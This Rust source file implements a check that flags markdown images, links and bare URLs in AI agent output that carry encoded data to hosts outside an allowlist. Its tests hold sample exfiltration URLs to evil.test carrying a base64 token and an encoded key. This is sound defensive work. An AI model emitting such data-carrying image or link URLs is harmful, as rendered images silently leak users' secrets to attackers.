//! Exfiltration checks on agent outputs and tool arguments: markdown images and links, and bare
//! URLs, whose URL carries data to a host outside the allowlist. A rendered markdown image is
//! fetched without a click, so an image URL with data in it leaks that data.

use std::collections::BTreeSet;

use serde::Serialize;

/// A URL that would carry data out.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct UrlFinding {
    /// The host, lower case.
    pub host: String,
    /// Byte range of the URL in the checked text.
    pub start: usize,
    /// End byte (exclusive).
    pub end: usize,
    /// `markdown_image`, `markdown_link` or `url`, then why it counts as carrying data.
    pub reason: String,
}

/// Which hosts may receive data in URLs. Hosts match exactly or as a parent domain
/// (`example.com` allows `img.example.com`).
#[derive(Debug, Clone, Default)]
pub struct ExfiltrationCheck {
    allowed: BTreeSet<String>,
}

/// Longest text examined for URLs.
const MAX_TEXT: usize = 1 << 20;

impl ExfiltrationCheck {
    /// A check that allows data-carrying URLs to `hosts` only.
    pub fn allowing<I, S>(hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        Self {
            allowed: hosts
                .into_iter()
                .map(|h| h.as_ref().trim().trim_end_matches('.').to_ascii_lowercase())
                .filter(|h| !h.is_empty())
                .collect(),
        }
    }

    /// Whether `host` is allowed.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.allowed.iter().any(|a| {
            host == *a
                || host
                    .strip_suffix(a.as_str())
                    .is_some_and(|rest| rest.ends_with('.'))
        })
    }

    /// Every URL in `text` that carries data to a host outside the allowlist.
    pub fn check_text(&self, text: &str) -> Vec<UrlFinding> {
        let text = text.get(..text.len().min(MAX_TEXT)).unwrap_or_default();
        let mut out = Vec::new();
        let mut from = 0;
        while let Some(rel) = find_scheme(text.get(from..).unwrap_or_default()) {
            let start = from + rel;
            let tail = text.get(start..).unwrap_or_default();
            let len = tail
                .find(|c: char| {
                    c.is_whitespace() || matches!(c, ')' | '"' | '\'' | '<' | '>' | ']')
                })
                .unwrap_or(tail.len());
            let url = tail.get(..len).unwrap_or_default();
            let before = text.get(..start).unwrap_or_default();
            let kind = if before.trim_end().ends_with("](") || before.ends_with("](") {
                if markdown_image(before) {
                    "markdown_image"
                } else {
                    "markdown_link"
                }
            } else {
                "url"
            };
            if let Some((host, why)) = carries_data(url)
                && !self.allows(&host)
            {
                out.push(UrlFinding {
                    host,
                    start,
                    end: start + len,
                    reason: format!("{kind}: {why}"),
                });
            }
            from = start + len.max(1);
        }
        out
    }
}

fn find_scheme(text: &str) -> Option<usize> {
    let lower = text.as_bytes();
    lower.windows(7).enumerate().find_map(|(i, w)| {
        let is_http = w.eq_ignore_ascii_case(b"http://")
            || (w.eq_ignore_ascii_case(b"https:/") && lower.get(i + 7).is_some_and(|b| *b == b'/'));
        is_http.then_some(i)
    })
}

/// Whether the `](` before a URL closes `![alt`, not `[text`.
fn markdown_image(before: &str) -> bool {
    let trimmed = before
        .trim_end()
        .trim_end_matches('(')
        .trim_end_matches(']');
    trimmed
        .rfind('[')
        .is_some_and(|open| open > 0 && trimmed.get(open - 1..open) == Some("!"))
}

/// The host, and why the URL carries data: a query with values, a long path segment, or a
/// base64- or hex-looking segment.
fn carries_data(url: &str) -> Option<(String, String)> {
    let rest = url.split_once("://")?.1;
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..authority_end)?;
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, h)| h)
        .split(':')
        .next()?
        .to_ascii_lowercase();
    if host.is_empty() {
        return None;
    }
    let path_and_query = rest.get(authority_end..).unwrap_or_default();
    let (path, query) = path_and_query
        .split_once('?')
        .map_or((path_and_query, ""), |(p, q)| (p, q));
    let query = query.split('#').next().unwrap_or_default();
    if query
        .split('&')
        .any(|kv| kv.split_once('=').is_some_and(|(_, v)| v.len() >= 8))
    {
        return Some((host, "query values".to_owned()));
    }
    for segment in path.split('/') {
        let dense = segment.len() >= 24
            && segment.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'_' | b'=' | b'%')
            });
        if segment.len() >= 64 || dense {
            return Some((host, "encoded path segment".to_owned()));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_images_with_data_to_outside_hosts() {
        let check = ExfiltrationCheck::allowing(["acme.example"]);
        let text = "Done! ![chart](https://evil.test/pixel.png?d=c2VjcmV0LXRva2VuLTEyMw) and ![ok](https://img.acme.example/a.png?v=123456789)";
        let found = check.check_text(text);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].host, "evil.test");
        assert!(found[0].reason.starts_with("markdown_image"));
        assert_eq!(
            &text[found[0].start..found[0].end],
            "https://evil.test/pixel.png?d=c2VjcmV0LXRva2VuLTEyMw"
        );
    }

    #[test]
    fn plain_links_without_data_pass() {
        let check = ExfiltrationCheck::default();
        assert!(
            check
                .check_text("see https://docs.rs/regex and [home](https://example.org/)")
                .is_empty()
        );
        let found = check.check_text("[x](https://evil.test/c/QUtJQUlPU0ZPRE5ON0VYQU1QTEVLRVk1)");
        assert_eq!(found[0].reason, "markdown_link: encoded path segment");
    }

    #[test]
    fn parent_domains_allow_subdomains_only() {
        let check = ExfiltrationCheck::allowing(["acme.example"]);
        assert!(check.allows("acme.example") && check.allows("cdn.acme.example"));
        assert!(!check.allows("evilacme.example") && !check.allows("acme.example.evil.test"));
    }
}
